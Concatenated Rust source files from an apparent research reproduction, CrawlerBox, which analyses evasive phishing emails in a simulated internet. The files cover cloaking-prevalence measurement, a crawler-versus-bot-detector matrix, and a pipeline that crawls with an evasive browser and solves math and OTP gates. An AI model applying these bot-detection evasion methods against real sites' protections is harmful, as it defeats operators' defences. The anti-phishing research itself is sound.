        p.victim_check_messages += victim as usize;
        p.hue_rotate_messages += hue as usize;
        p.otp_gate_messages += otp as usize;
        p.math_challenge_messages += math as usize;
    }
    p.victim_check_domains = vc_domains.len();
    p
}

/// Turnstile/ReCaptcha prevalence cannot be observed from a *successful*
/// NotABot crawl alone (the challenge is invisible when passed); the paper
/// measures it from the loaded challenge resources. We measure it by
/// re-visiting each credential-harvesting landing URL with a crawler that
/// *fails* challenges (Puppeteer + stealth): a site that serves it benign
/// content while serving NotABot the phish is challenge-gated.
pub fn measure_challenge_gating(
    world: &cb_netsim::Internet,
    records: &[ScanRecord],
) -> (usize, usize) {
    use cb_browser::{Browser, CrawlerProfile};
    let notabot_sees_phish = |r: &ScanRecord| r.phish_visit().is_some();
    let weak = Browser::new(CrawlerProfile::PuppeteerStealth);
    let mut gated_messages = 0usize;
    let mut total_cred = 0usize;
    for r in records {
        if !notabot_sees_phish(r) {
            continue;
        }
        total_cred += 1;
        let url = r
            .phish_visit()
            .map(|v| v.requested_url.clone())
            .expect("phish visit present");
        let weak_visit = weak.visit(world, &url);
        if !weak_visit.shows_login_form() {
            gated_messages += 1;
        }
    }
    (gated_messages, total_cred)
}

impl fmt::Display for CloakingPrevalence {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "auth pass:          {:>6} / {}", self.auth_pass_messages, self.total)?;
        writeln!(f, "noise padded:       {:>6}", self.noise_padded_messages)?;
        writeln!(f, "qr messages:        {:>6} (faulty {})", self.qr_messages, self.faulty_qr_messages)?;
        writeln!(f, "turnstile loaded:   {:>6}", self.turnstile_messages)?;
        writeln!(f, "recaptcha loaded:   {:>6}", self.recaptcha_messages)?;
        writeln!(f, "console hijack:     {:>6}", self.console_hijack_messages)?;
        writeln!(f, "debugger timer:     {:>6}", self.debugger_timer_messages)?;
        writeln!(f, "visitor exfil:      {:>6} (httpbin {}, ipapi {})", self.exfil_messages, self.httpbin_messages, self.ipapi_messages)?;
        writeln!(f, "victim-db checks:   {:>6} over {} domains", self.victim_check_messages, self.victim_check_domains)?;
        writeln!(f, "hue-rotate:         {:>6}", self.hue_rotate_messages)?;
        writeln!(f, "otp gates:          {:>6}", self.otp_gate_messages)?;
        writeln!(f, "math challenges:    {:>6}", self.math_challenge_messages)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::CrawlerBox;
    use cb_phishgen::{Corpus, CorpusSpec};

    fn scan(scale: f64) -> (Corpus, Vec<ScanRecord>) {
        let corpus = Corpus::generate(&CorpusSpec::paper().with_scale(scale), 55);
        let records = CrawlerBox::new(&corpus.world).scan_all(&corpus.messages);
        (corpus, records)
    }

    #[test]
    fn auth_always_passes() {
        let (_, recs) = scan(0.03);
        let p = prevalence(&recs);
        assert_eq!(p.auth_pass_messages, p.total, "§V-C1: all messages pass auth");
    }

    #[test]
    fn measured_counts_track_ground_truth() {
        let (corpus, recs) = scan(0.2);
        let p = prevalence(&recs);
        let truth = |f: &dyn Fn(&cb_phishkit::CloakConfig) -> bool| -> usize {
            corpus
                .messages
                .iter()
                .filter(|m| {
                    m.truth
                        .campaign
                        .map(|ci| f(&corpus.campaigns[ci].cloak))
                        .unwrap_or(false)
                })
                .count()
        };
        let turnstile_truth = truth(&|c| c.client.turnstile);
        assert!(
            p.turnstile_messages.abs_diff(turnstile_truth) <= turnstile_truth / 10 + 3,
            "turnstile: measured {} vs truth {turnstile_truth}",
            p.turnstile_messages
        );
        let recaptcha_truth = truth(&|c| c.client.recaptcha_v3);
        assert!(
            p.recaptcha_messages.abs_diff(recaptcha_truth) <= recaptcha_truth / 10 + 3,
            "recaptcha: measured {} vs truth {recaptcha_truth}",
            p.recaptcha_messages
        );
        let hijack_truth = truth(&|c| c.client.console_hijack);
        assert!(
            p.console_hijack_messages.abs_diff(hijack_truth) <= hijack_truth / 5 + 3,
            "console hijack: measured {} vs truth {hijack_truth}",
            p.console_hijack_messages
        );
        let hue_truth = truth(&|c| c.client.hue_rotate);
        assert!(
            p.hue_rotate_messages.abs_diff(hue_truth) <= hue_truth / 5 + 3,
            "hue: measured {} vs truth {hue_truth}",
            p.hue_rotate_messages
        );
        let otp_truth = truth(&|c| c.client.otp_gate);
        assert!(
            p.otp_gate_messages.abs_diff(otp_truth) <= otp_truth / 4 + 3,
            "otp: measured {} vs truth {otp_truth}",
            p.otp_gate_messages
        );
    }

    #[test]
    fn faulty_qr_counted() {
        let (corpus, recs) = scan(0.2);
        let p = prevalence(&recs);
        let truth = corpus
            .messages
            .iter()
            .filter(|m| matches!(m.truth.carrier, cb_phishgen::messages::Carrier::QrCode { faulty: true }))
            .count();
        assert_eq!(p.faulty_qr_messages, truth);
        assert!(p.qr_messages >= p.faulty_qr_messages);
    }

    #[test]
    fn challenge_gating_measured_by_weak_crawler_differential() {
        let (corpus, recs) = scan(0.1);
        let (gated, total) = measure_challenge_gating(&corpus.world, &recs);
        assert!(total > 0);
        let rate = gated as f64 / total as f64;
        // spec rate: 943/1267 ≈ 74% carry Turnstile (plus reCAPTCHA-only
        // sites also gate the weak crawler)
        assert!((0.5..=1.0).contains(&rate), "gating rate {rate}");
    }

    #[test]
    fn noise_detection_matches_truth() {
        let (corpus, recs) = scan(0.2);
        let p = prevalence(&recs);
        let truth = corpus.messages.iter().filter(|m| m.truth.noise_padded).count();
        assert!(
            p.noise_padded_messages.abs_diff(truth) <= truth / 10 + 2,
            "noise: measured {} vs truth {truth}",
            p.noise_padded_messages
        );
    }

    #[test]
    fn display_renders() {
        let (_, recs) = scan(0.02);
        assert!(prevalence(&recs).to_string().contains("qr messages"));
    }
}
