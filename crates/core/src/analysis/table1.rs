//! Table I: the crawler × bot-detection matrix.
//!
//! Each of the eight crawler profiles is challenged against BotD, Cloudflare
//! Turnstile and AnonWAF — reproducing the assessment of §IV-D, where only
//! NotABot, Nodriver and Selenium-Driverless pass all three.

use cb_botdetect::{AnonWaf, BotD, Detector, Turnstile};
use cb_browser::CrawlerProfile;
use serde::{Deserialize, Serialize};
use std::fmt;

/// One row of the matrix.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table1Row {
    /// Crawler name as printed in the paper.
    pub crawler: String,
    /// Passed BotD.
    pub botd: bool,
    /// Passed Cloudflare Turnstile.
    pub turnstile: bool,
    /// Passed AnonWAF.
    pub anonwaf: bool,
}

impl Table1Row {
    /// Passed every detector.
    pub fn passes_all(&self) -> bool {
        self.botd && self.turnstile && self.anonwaf
    }
}

/// The full matrix.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table1 {
    /// One row per crawler, Table I column order.
    pub rows: Vec<Table1Row>,
}

/// Evaluate the matrix.
pub fn table1() -> Table1 {
    let rows = CrawlerProfile::table1()
        .into_iter()
        .map(evaluate_profile)
        .collect();
    Table1 { rows }
}

/// Evaluate one profile against the three services.
pub fn evaluate_profile(profile: CrawlerProfile) -> Table1Row {
    let report = profile.fingerprint().attestation();
    Table1Row {
        crawler: profile.name().to_string(),
        botd: BotD.evaluate(&report).is_human(),
        turnstile: Turnstile::default().evaluate(&report).is_human(),
        anonwaf: AnonWaf::default().evaluate(&report).is_human(),
    }
}

/// The A1 ablation: NotABot single-feature knock-outs.
pub fn ablation() -> Table1 {
    let mut rows = vec![evaluate_profile(CrawlerProfile::NotABot)];
    rows.extend(CrawlerProfile::ablations().into_iter().map(evaluate_profile));
    Table1 { rows }
}

impl fmt::Display for Table1 {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "{:<36} {:>6} {:>10} {:>8}", "Crawler", "BotD", "Turnstile", "AnonWAF")?;
        for row in &self.rows {
            let mark = |b: bool| if b { "pass" } else { "fail" };
            writeln!(
                f,
                "{:<36} {:>6} {:>10} {:>8}",
                row.crawler,
                mark(row.botd),
                mark(row.turnstile),
                mark(row.anonwaf)
            )?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn matrix_matches_published_table() {
        let t = table1();
        let expect = [
            ("Kangooroo", false, false, false),
            ("Lacus", true, false, false),
            ("Puppeteer + stealth plugin", true, false, false),
            ("Selenium + stealth plugin", false, false, false),
            ("undetected_chromedriver", true, false, true),
            ("Nodriver", true, true, true),
            ("Selenium-Driverless", true, true, true),
            ("NotABot", true, true, true),
        ];
        assert_eq!(t.rows.len(), 8);
        for (row, (name, botd, turnstile, anonwaf)) in t.rows.iter().zip(expect) {
            assert_eq!(row.crawler, name);
            assert_eq!(row.botd, botd, "{name} BotD");
            assert_eq!(row.turnstile, turnstile, "{name} Turnstile");
            assert_eq!(row.anonwaf, anonwaf, "{name} AnonWAF");
        }
        // exactly three crawlers pass everything
        assert_eq!(t.rows.iter().filter(|r| r.passes_all()).count(), 3);
    }

    #[test]
    fn ablation_knockouts_all_fail_something() {
        let t = ablation();
        assert!(t.rows[0].passes_all(), "baseline NotABot");
        // every knock-out except the datacenter-IP one is hard-caught
        let caught = t.rows[1..].iter().filter(|r| !r.passes_all()).count();
        assert!(caught >= 4, "{caught} of 5 ablations caught");
    }

    #[test]
    fn display_renders_all_rows() {
        let s = table1().to_string();
        assert_eq!(s.lines().count(), 9);
        assert!(s.contains("NotABot"));
    }
}
