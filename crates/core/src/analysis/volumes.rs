//! §V-A per-domain message volumes and passive-DNS query volumes — the
//! "low-volume targeted attacks" evidence.

use crate::logging::ScanRecord;
use cb_phishgen::MessageClass;
use cb_stats::describe::median;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

/// Message-volume statistics per landing domain.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct DomainVolumeStats {
    /// Distinct landing domains.
    pub domains: usize,
    /// Mean reported messages per domain.
    pub mean_messages: f64,
    /// Median reported messages per domain.
    pub median_messages: f64,
    /// Maximum reported messages on one domain.
    pub max_messages: usize,
    /// Median of per-domain max-queries-per-day, single-message domains.
    pub single_median_max_per_day: f64,
    /// Median total queries (30 d), single-message domains.
    pub single_median_total: f64,
    /// Median of per-domain max-queries-per-day, multi-message domains.
    pub multi_median_max_per_day: f64,
    /// Median total queries (30 d), multi-message domains.
    pub multi_median_total: f64,
    /// `(domain, total_queries, message_count)` of the three
    /// highest-volume domains.
    pub top_by_queries: Vec<(String, u64, usize)>,
}

/// Compute volume statistics from scan records.
pub fn domain_volumes(records: &[ScanRecord]) -> DomainVolumeStats {
    // domain -> (message count, dns volume)
    let mut per_domain: BTreeMap<String, (usize, u64, u64)> = BTreeMap::new();
    for r in records {
        if r.class != MessageClass::ActivePhish {
            continue;
        }
        for v in &r.visits {
            if !v.login_form {
                continue;
            }
            let Some(domain) = v.landing_domain() else {
                continue;
            };
            let entry = per_domain.entry(domain).or_insert((0, 0, 0));
            entry.0 += 1;
            if let Some(q) = v.dns_volume {
                entry.1 = entry.1.max(q.max_per_day);
                entry.2 = entry.2.max(q.total);
            }
            break; // one landing domain per message
        }
    }

    let counts: Vec<f64> = per_domain.values().map(|&(n, _, _)| n as f64).collect();
    let singles: Vec<&(usize, u64, u64)> =
        per_domain.values().filter(|(n, _, _)| *n == 1).collect();
    let multis: Vec<&(usize, u64, u64)> =
        per_domain.values().filter(|(n, _, _)| *n > 1).collect();
    let med = |vals: Vec<f64>| if vals.is_empty() { 0.0 } else { median(&vals) };

    let mut by_queries: Vec<(String, u64, usize)> = per_domain
        .iter()
        .map(|(d, &(n, _, total))| (d.clone(), total, n))
        .collect();
    by_queries.sort_by_key(|(_, total, _)| std::cmp::Reverse(*total));
    by_queries.truncate(3);

    DomainVolumeStats {
        domains: per_domain.len(),
        mean_messages: if counts.is_empty() {
            0.0
        } else {
            counts.iter().sum::<f64>() / counts.len() as f64
        },
        median_messages: med(counts.clone()),
        max_messages: per_domain.values().map(|&(n, _, _)| n).max().unwrap_or(0),
        single_median_max_per_day: med(singles.iter().map(|(_, m, _)| *m as f64).collect()),
        single_median_total: med(singles.iter().map(|(_, _, t)| *t as f64).collect()),
        multi_median_max_per_day: med(multis.iter().map(|(_, m, _)| *m as f64).collect()),
        multi_median_total: med(multis.iter().map(|(_, _, t)| *t as f64).collect()),
        top_by_queries: by_queries,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::CrawlerBox;
    use cb_phishgen::{Corpus, CorpusSpec};

    fn stats(scale: f64) -> DomainVolumeStats {
        let corpus = Corpus::generate(&CorpusSpec::paper().with_scale(scale), 61);
        let records = CrawlerBox::new(&corpus.world).scan_all(&corpus.messages);
        domain_volumes(&records)
    }

    #[test]
    fn volume_shape_matches_paper() {
        let s = stats(0.3);
        assert!(s.domains > 50);
        // median 1 message per domain, skewed mean
        assert_eq!(s.median_messages, 1.0);
        assert!(s.mean_messages > 1.5, "mean {}", s.mean_messages);
        assert!(s.max_messages >= 10, "max {}", s.max_messages);
        // single-message domains show lower DNS volume than multi-message
        assert!(
            s.single_median_total < s.multi_median_total,
            "single {} vs multi {}",
            s.single_median_total,
            s.multi_median_total
        );
        assert!(s.single_median_max_per_day < s.multi_median_max_per_day);
    }

    #[test]
    fn top_queried_domain_is_the_most_reported() {
        let s = stats(0.3);
        assert_eq!(s.top_by_queries.len(), 3);
        let (_, top_queries, top_msgs) = &s.top_by_queries[0];
        // the headline domain: by far the highest query volume and the most
        // messages (§V-A)
        assert!(*top_queries > 1_000_000, "top volume {top_queries}");
        assert_eq!(*top_msgs, s.max_messages);
        assert!(s.top_by_queries[0].1 > s.top_by_queries[1].1);
    }
}
