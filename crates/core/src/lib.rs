#![warn(missing_docs)]

//! # CrawlerBox
//!
//! The paper's contribution, reproduced: an analysis infrastructure for
//! evasive phishing emails. The pipeline (Figure 1) has three phases:
//!
//! 1. **Parsing** ([`extract`]): every MIME part is processed recursively —
//!    URLs are pulled from text and HTML, images are scanned for QR codes
//!    and OCR'd text, PDFs yield link annotations *and* per-page
//!    screenshots that re-enter the image path, octet-streams are sniffed
//!    by magic numbers, ZIPs are unpacked, EMLs recurse.
//! 2. **Crawling** ([`pipeline`]): every extracted resource is visited with
//!    **NotABot** (the evasive crawler of `cb-browser`), following
//!    redirects, executing page scripts, solving the gates custom code can
//!    solve, and screenshotting the final page.
//! 3. **Logging & analysis** ([`logging`], [`classify`], [`analysis`]):
//!    visits are enriched with WHOIS / CT-log / passive-DNS data, spear
//!    phishing is classified by pHash+dHash similarity to the five
//!    companies' login pages, and the [`analysis`] modules regenerate every
//!    table, figure and headline statistic of the paper.
//!
//! # Example
//!
//! ```
//! use cb_phishgen::{Corpus, CorpusSpec};
//! use crawlerbox::pipeline::CrawlerBox;
//!
//! let corpus = Corpus::generate(&CorpusSpec::paper().with_scale(0.01), 7);
//! let cbx = CrawlerBox::new(&corpus.world);
//! let records = cbx.scan_all(&corpus.messages);
//! assert_eq!(records.len(), corpus.messages.len());
//! ```

pub mod analysis;
pub mod classify;
pub mod extract;
pub mod logging;
pub mod pipeline;
pub mod pool;
pub mod sink;
pub mod tasks;

pub use classify::SpearClassifier;
pub use extract::{
    extract_resources, extract_resources_memo, ArtifactMemo, ExtractedResource, ExtractionSource,
};
pub use logging::{ArtifactKind, CapturedArtifact, ScanRecord, ScanStats, VisitLog};
pub use cb_telemetry::{ExportMode, MetricsRegistry, Trace};
pub use pipeline::{message_content_hash, CrawlerBox, ProbeSession, ScanPolicy, Scheduler};
pub use pool::run_stealing;
pub use sink::{
    ClassMixSink, CountingSink, EncodedSink, NoopEncoder, RecordEncoder, RecordSink, TruthLedger,
};
pub use tasks::{route_shard, TaskRegistry, TaskSnapshot, TaskState};
