//! The CrawlerBox pipeline: parse → crawl → log → classify, per Figure 1.
//!
//! Crawling uses NotABot by default ("given that the detection of automated
//! tools follows a continuous adversarial cycle, CrawlerBox has been
//! designed with a modular architecture, allowing for interchangeable use
//! of the crawling component") — [`CrawlerBox::with_profile`] swaps it.

use crate::classify::SpearClassifier;
use crate::extract::extract_resources;
use crate::logging::{ScanRecord, VisitLog};
use cb_browser::engine::VisitOutcome;
use cb_browser::{Browser, CrawlerProfile, Visit};
use cb_email::MimeEntity;
use cb_imagehash::HashPair;
use cb_netsim::Internet;
use cb_phishgen::{MessageClass, ReportedMessage};
use cb_sim::{SimDuration, SimTime};

/// Crawl at most this many distinct URLs per message.
const MAX_URLS_PER_MESSAGE: usize = 4;

/// The analysis infrastructure.
pub struct CrawlerBox<'a> {
    world: &'a Internet,
    browser: Browser,
    /// Fallback crawler components tried when the primary sees nothing
    /// malicious — the paper's future-work item ("for future work, we
    /// consider expanding CrawlerBox by integrating [Nodriver and
    /// Selenium-Driverless]; diversifying crawler components … can only be
    /// beneficial"), implemented.
    fallbacks: Vec<Browser>,
    classifier: SpearClassifier,
    /// Worker threads for [`scan_all`](Self::scan_all).
    pub parallelism: usize,
}

impl<'a> CrawlerBox<'a> {
    /// A CrawlerBox crawling `world` with NotABot.
    pub fn new(world: &'a Internet) -> CrawlerBox<'a> {
        CrawlerBox {
            world,
            browser: Browser::new(CrawlerProfile::NotABot),
            fallbacks: Vec::new(),
            classifier: SpearClassifier::new(),
            parallelism: 4,
        }
    }

    /// Swap the crawler component (the modular-crawler design point).
    pub fn with_profile(mut self, profile: CrawlerProfile) -> CrawlerBox<'a> {
        self.browser = Browser::new(profile);
        self
    }

    /// Add fallback crawler components, tried in order when the primary
    /// crawler reaches no phishing content for a URL.
    pub fn with_fallbacks(mut self, profiles: &[CrawlerProfile]) -> CrawlerBox<'a> {
        self.fallbacks = profiles.iter().map(|p| Browser::new(*p)).collect();
        self
    }

    /// The active crawler profile.
    pub fn profile(&self) -> CrawlerProfile {
        self.browser.profile()
    }

    /// Scan one reported message end to end.
    pub fn scan(&self, message: &ReportedMessage) -> ScanRecord {
        let parsed = MimeEntity::parse(&message.raw).ok();
        let (extracted, auth_pass, blank_line_run, delivered_at) = match &parsed {
            Some(msg) => (
                extract_resources(msg),
                msg.header("Authentication-Results")
                    .map(|v| v.contains("spf=pass") && v.contains("dkim=pass") && v.contains("dmarc=pass"))
                    .unwrap_or(false),
                blank_run(msg),
                msg.header("Date")
                    .and_then(parse_date)
                    .unwrap_or(message.delivered_at),
            ),
            None => (Vec::new(), false, 0, message.delivered_at),
        };

        // Crawl distinct URLs (first occurrence order).
        let mut urls: Vec<&str> = Vec::new();
        for r in &extracted {
            if !urls.contains(&r.url.as_str()) {
                urls.push(&r.url);
            }
            if urls.len() >= MAX_URLS_PER_MESSAGE {
                break;
            }
        }
        let full_text = parsed
            .as_ref()
            .map(collect_text)
            .unwrap_or_default();
        let visits: Vec<VisitLog> = urls
            .iter()
            .map(|u| self.crawl_one(u, &full_text, delivered_at))
            .collect();

        let class = derive_class(&extracted, &visits);
        ScanRecord {
            message_id: message.id,
            delivered_at,
            auth_pass,
            extracted,
            visits,
            body_bytes: message.raw.len(),
            blank_line_run,
            class,
        }
    }

    /// Scan a batch in parallel, preserving order.
    pub fn scan_all(&self, messages: &[ReportedMessage]) -> Vec<ScanRecord> {
        if messages.is_empty() {
            return Vec::new();
        }
        let workers = self.parallelism.max(1).min(messages.len());
        let chunk = messages.len().div_ceil(workers);
        let mut out: Vec<Option<ScanRecord>> = Vec::new();
        out.resize_with(messages.len(), || None);
        crossbeam::thread::scope(|scope| {
            for (slot, msgs) in out.chunks_mut(chunk).zip(messages.chunks(chunk)) {
                scope.spawn(move |_| {
                    for (s, m) in slot.iter_mut().zip(msgs) {
                        *s = Some(self.scan(m));
                    }
                });
            }
        })
        .expect("scan workers do not panic");
        out.into_iter().map(|r| r.expect("every slot filled")).collect()
    }

    /// Crawl one URL, solving what custom code can solve (math challenges,
    /// and OTP gates when the code is present in the message text). When
    /// the primary crawler sees nothing malicious, fallback components get
    /// a turn — a kit cloaking against one crawler's tells may reveal to
    /// another.
    fn crawl_one(&self, url: &str, message_text: &str, delivered_at: SimTime) -> VisitLog {
        let log = self.crawl_with(&self.browser, url, message_text, delivered_at);
        if log.login_form || log.outcome != cb_browser::engine::VisitOutcome::Loaded {
            return log;
        }
        for fallback in &self.fallbacks {
            let retry = self.crawl_with(fallback, url, message_text, delivered_at);
            if retry.login_form {
                return retry;
            }
        }
        log
    }

    fn crawl_with(
        &self,
        browser: &Browser,
        url: &str,
        message_text: &str,
        delivered_at: SimTime,
    ) -> VisitLog {
        let mut visit = browser.visit(self.world, url);
        let mut gates_solved = Vec::new();

        for _attempt in 0..2 {
            if visit.outcome != VisitOutcome::InteractionRequired {
                break;
            }
            let Some(kind) = gate_kind(&visit) else {
                break;
            };
            let retry = match kind.as_str() {
                "math" => solve_math(&visit).map(|answer| {
                    with_param(visit.final_url().to_string().as_str(), "answer", &answer)
                }),
                "otp" => find_otp(message_text)
                    .map(|code| with_param(visit.final_url().to_string().as_str(), "otp", &code)),
                _ => None,
            };
            match retry {
                Some(retry_url) => {
                    gates_solved.push(kind);
                    visit = browser.visit(self.world, &retry_url);
                }
                None => break,
            }
        }

        self.log_visit(&visit, gates_solved, delivered_at)
    }

    fn log_visit(
        &self,
        visit: &Visit,
        gates_solved: Vec<String>,
        delivered_at: SimTime,
    ) -> VisitLog {
        let screenshot_hash = visit.screenshot.as_ref().map(HashPair::of);
        let spear = visit
            .screenshot
            .as_ref()
            .and_then(|s| self.classifier.classify(s))
            .filter(|_| visit.shows_login_form());
        let hue_rotated = visit
            .document
            .as_ref()
            .map(|d| {
                ["body", "html"].iter().any(|t| {
                    d.elements(t)
                        .first()
                        .and_then(|n| n.attr("style"))
                        .map(|s| s.contains("hue-rotate"))
                        .unwrap_or(false)
                })
            })
            .unwrap_or(false);

        let landing_host = visit.final_url().host.clone();
        let whois = self.world.whois(&landing_host);
        let cert = self.world.first_certificate(&landing_host);
        let dns_volume = Some(self.world.dns_volume(
            &landing_host,
            delivered_at,
            SimDuration::days(30),
        ));
        let banner = self.world.banner(&landing_host);

        VisitLog {
            requested_url: visit.requested_url.to_string(),
            chain: visit
                .chain
                .iter()
                .map(|(u, s)| (u.to_string(), *s))
                .collect(),
            outcome: visit.outcome,
            status: visit.status,
            login_form: visit.shows_login_form(),
            screenshot_hash,
            spear,
            subresources: visit
                .subresources
                .iter()
                .map(|(u, s)| (u.to_string(), *s))
                .collect(),
            exfil: visit.exfil.clone(),
            console_hijacked: visit.console_hijacked,
            debugger_hits: visit.debugger_hits,
            gates_solved,
            domain_registered_at: whois.as_ref().map(|w| w.registered_at),
            registrar: whois.map(|w| w.registrar),
            cert_issued_at: cert.map(|c| c.issued_at),
            dns_volume,
            banner,
            hue_rotated,
        }
    }
}

/// Derive the §V message class from what the scan observed.
fn derive_class(
    extracted: &[crate::extract::ExtractedResource],
    visits: &[VisitLog],
) -> MessageClass {
    if extracted.is_empty() {
        return MessageClass::NoResource;
    }
    if visits
        .iter()
        .any(|v| v.outcome == VisitOutcome::Loaded && v.login_form)
    {
        return MessageClass::ActivePhish;
    }
    if visits.iter().any(|v| v.outcome == VisitOutcome::Download) {
        return MessageClass::Download;
    }
    if visits
        .iter()
        .any(|v| v.outcome == VisitOutcome::InteractionRequired)
    {
        return MessageClass::InteractionRequired;
    }
    MessageClass::ErrorPage
}

/// The gate kind marker on the final page.
fn gate_kind(visit: &Visit) -> Option<String> {
    visit.document.as_ref().and_then(|d| {
        d.walk()
            .iter()
            .find_map(|n| n.attr("data-requires-interaction").map(str::to_string))
    })
}

/// Solve a "What is X + Y?" math challenge from the gate prompt.
fn solve_math(visit: &Visit) -> Option<String> {
    let text = visit.document.as_ref()?.visible_text();
    let idx = text.find("What is ")?;
    let rest = &text[idx + 8..];
    let end = rest.find('?')?;
    let expr = &rest[..end];
    let (a, b) = expr.split_once('+')?;
    let sum = a.trim().parse::<i64>().ok()? + b.trim().parse::<i64>().ok()?;
    Some(sum.to_string())
}

/// Find a one-time code in the message text ("access code: 123456").
fn find_otp(text: &str) -> Option<String> {
    let marker = cb_phishgen::messages::ACCESS_CODE_PREFIX;
    // Slice the lowercased text, not the original: case folding can change
    // byte lengths (e.g. 'İ'), so indexes into `lower` are only valid in
    // `lower` — digits are unaffected by folding.
    let lower = text.to_lowercase();
    let idx = lower.find(marker)?;
    let rest = &lower[idx + marker.len()..];
    let code: String = rest
        .trim_start()
        .chars()
        .take_while(|c| c.is_ascii_digit())
        .collect();
    (code.len() >= 4).then_some(code)
}

/// Append a query parameter respecting existing query strings and keeping
/// any fragment after the parameter (servers never see fragments).
fn with_param(url: &str, name: &str, value: &str) -> String {
    let (base, fragment) = match url.split_once('#') {
        Some((b, f)) => (b, Some(f)),
        None => (url, None),
    };
    let sep = if base.contains('?') { '&' } else { '?' };
    match fragment {
        Some(f) => format!("{base}{sep}{name}={value}#{f}"),
        None => format!("{base}{sep}{name}={value}"),
    }
}

/// All text content of a message's leaves (for OTP search).
fn collect_text(msg: &MimeEntity) -> String {
    msg.leaves()
        .iter()
        .filter_map(|l| l.body_text())
        .collect::<Vec<_>>()
        .join("\n")
}

/// Maximum run of consecutive blank lines in the message body.
fn blank_run(msg: &MimeEntity) -> usize {
    let text = collect_text(msg);
    let mut best = 0usize;
    let mut run = 0usize;
    for line in text.lines() {
        if line.trim().is_empty() {
            run += 1;
            best = best.max(run);
        } else {
            run = 0;
        }
    }
    best
}

/// Parse the corpus `Date:` header format (`DD Mon YYYY HH:MM:SS +0000`).
fn parse_date(s: &str) -> Option<SimTime> {
    let mut parts = s.split_whitespace();
    let day: u32 = parts.next()?.parse().ok()?;
    let month = match parts.next()? {
        "Jan" => 1,
        "Feb" => 2,
        "Mar" => 3,
        "Apr" => 4,
        "May" => 5,
        "Jun" => 6,
        "Jul" => 7,
        "Aug" => 8,
        "Sep" => 9,
        "Oct" => 10,
        "Nov" => 11,
        "Dec" => 12,
        _ => return None,
    };
    let year: i64 = parts.next()?.parse().ok()?;
    let mut hms = parts.next()?.split(':');
    let h: u32 = hms.next()?.parse().ok()?;
    let m: u32 = hms.next()?.parse().ok()?;
    let sec: u32 = hms.next()?.parse().ok()?;
    Some(SimTime::from_ymd_hms(year, month, day, h, m, sec))
}

#[cfg(test)]
mod tests {
    use super::*;
    use cb_phishgen::{Corpus, CorpusSpec};

    fn corpus() -> Corpus {
        Corpus::generate(&CorpusSpec::paper().with_scale(0.02), 99)
    }

    #[test]
    fn classes_match_ground_truth() {
        let corpus = corpus();
        let cbx = CrawlerBox::new(&corpus.world);
        let mut agreement = 0usize;
        for m in &corpus.messages {
            let record = cbx.scan(m);
            if record.class == m.truth.class {
                agreement += 1;
            }
        }
        let rate = agreement as f64 / corpus.messages.len() as f64;
        assert!(
            rate > 0.95,
            "class agreement {rate} ({agreement}/{})",
            corpus.messages.len()
        );
    }

    #[test]
    fn active_spear_messages_classify_as_spear() {
        let corpus = corpus();
        let cbx = CrawlerBox::new(&corpus.world);
        let spear_msg = corpus
            .messages
            .iter()
            .find(|m| m.truth.spear && m.truth.class == cb_phishgen::MessageClass::ActivePhish)
            .expect("a spear message");
        let record = cbx.scan(spear_msg);
        assert_eq!(record.class, cb_phishgen::MessageClass::ActivePhish);
        assert!(
            record.spear_match().is_some(),
            "spear lookalike must classify: {:?}",
            record.visits.iter().map(|v| (&v.requested_url, v.outcome, v.login_form)).collect::<Vec<_>>()
        );
    }

    #[test]
    fn auth_results_parsed() {
        let corpus = corpus();
        let cbx = CrawlerBox::new(&corpus.world);
        let record = cbx.scan(&corpus.messages[0]);
        assert!(record.auth_pass);
    }

    #[test]
    fn scan_all_parallel_matches_serial() {
        let corpus = corpus();
        let cbx = CrawlerBox::new(&corpus.world);
        let subset = &corpus.messages[..20.min(corpus.messages.len())];
        let parallel = cbx.scan_all(subset);
        for (p, m) in parallel.iter().zip(subset) {
            let s = cbx.scan(m);
            assert_eq!(p.message_id, s.message_id);
            assert_eq!(p.class, s.class);
            assert_eq!(p.extracted, s.extracted);
        }
    }

    #[test]
    fn date_header_round_trips() {
        let t = SimTime::from_ymd_hms(2024, 7, 9, 14, 5, 33);
        let s = cb_phishgen::messages::date_header(t);
        assert_eq!(parse_date(&s), Some(t));
    }

    #[test]
    fn otp_extraction_from_text() {
        assert_eq!(
            find_otp("Your one-time access code: 491827\nthanks"),
            Some("491827".to_string())
        );
        assert_eq!(find_otp("no code here"), None);
        assert_eq!(find_otp("access code: 12"), None, "too short");
    }

    #[test]
    fn math_solver() {
        assert_eq!(with_param("https://a.example/x", "answer", "42"), "https://a.example/x?answer=42");
        assert_eq!(
            with_param("https://a.example/x?victim=v", "otp", "1"),
            "https://a.example/x?victim=v&otp=1"
        );
    }

    #[test]
    fn noise_padding_detected_via_blank_run() {
        let corpus = corpus();
        let cbx = CrawlerBox::new(&corpus.world);
        if let Some(noisy) = corpus.messages.iter().find(|m| m.truth.noise_padded) {
            let record = cbx.scan(noisy);
            assert!(record.blank_line_run >= 8, "run {}", record.blank_line_run);
        }
    }
}
