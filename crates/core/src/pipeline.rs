//! The CrawlerBox pipeline: parse → crawl → log → classify, per Figure 1.
//!
//! Crawling uses NotABot by default ("given that the detection of automated
//! tools follows a continuous adversarial cycle, CrawlerBox has been
//! designed with a modular architecture, allowing for interchangeable use
//! of the crawling component") — [`CrawlerBox::with_profile`] swaps it.

use crate::classify::{SpearClassifier, SpearMatch};
use crate::extract::{extract_resources_memo, ArtifactMemo};
use crate::logging::{ArtifactKind, AttemptLog, CapturedArtifact, ScanRecord, ScanStats, VisitLog};
use crate::sink::{EncodedSink, RecordEncoder, RecordSink};
use cb_artifacts::fingerprint;
use cb_browser::engine::VisitOutcome;
use cb_browser::{Browser, CrawlerProfile, Visit, DEFAULT_VISIT_BUDGET};
use cb_email::MimeEntity;
use cb_imagehash::HashPair;
use cb_netsim::{HostEnrichment, Internet, Url};
use cb_phishgen::{MessageClass, ReportedMessage};
use cb_sim::{SeedFork, SimDuration, SimTime};
use cb_telemetry::{
